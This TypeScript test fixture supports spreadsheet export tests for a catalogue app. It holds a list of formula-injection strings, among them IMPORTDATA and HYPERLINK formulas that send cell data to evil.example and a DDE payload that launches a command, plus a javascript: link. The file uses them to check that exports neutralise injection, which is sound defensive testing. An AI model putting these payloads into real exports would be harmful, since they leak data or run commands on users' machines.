// Shared material for the export tests: the seed catalogue, a fixed clock and an injection corpus.

import type { ExportStamp } from '../../src/core/export';
import type { Catalogue, Example } from '../../src/core/model';
import { readCatalogue } from '../../src/core/read-workbook';
import { seedWorkbook } from './seed';

export const STAMP: ExportStamp = {
  iso: '2026-11-23T14:05:00.000Z',
  local: '23 Nov 2026, 14:05',
  day: '2026-11-23',
};

export function seedCatalogue(): Catalogue {
  return readCatalogue(seedWorkbook());
}

/** The eight seed examples that show principle 4, by No. */
export const PRINCIPLE_4_IDS = ['1', '6', '7', '21', '22', '34', '37', '49'];

/** Text a spreadsheet would run as a formula if it were written as it is. */
export const INJECTIONS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '=IMPORTDATA("https://evil.example/x?"&A1)',
  '=HYPERLINK("https://evil.example/"&A1,"Click me")',
  '@SUM(A1:A10)',
  "=cmd|' /C calc'!A0",
];

/** An example whose every field is one of the injections, with accents, emoji and a link. */
export function hostileExample(text: string, n: number): Example {
  return {
    id: String(n),
    name: text,
    council: text,
    description: text,
    type: 'Tweak',
    notes: [{ principle: 4, text }],
    links: [{ text, url: 'https://example.org/a?b=1&c=(2)' }],
    sheet: 'Framework in Action',
    row: n + 1,
  };
}

export function friendlyExample(): Example {
  return {
    id: '54',
    name: 'Café “Ça va” in Ynys Môn 🌱',
    council: 'Ynys Môn',
    description: 'A café, with “quotes”, commas, and\n\nA second paragraph.',
    type: 'Tactic',
    notes: [{ principle: 4, text: 'Open books 📖 — naïve café menus' }],
    links: [
      { text: 'Report', url: 'https://example.org/report' },
      { text: 'Bad', url: 'javascript:alert(1)' },
    ],
    sheet: 'Framework in Action',
    row: 200,
  };
}
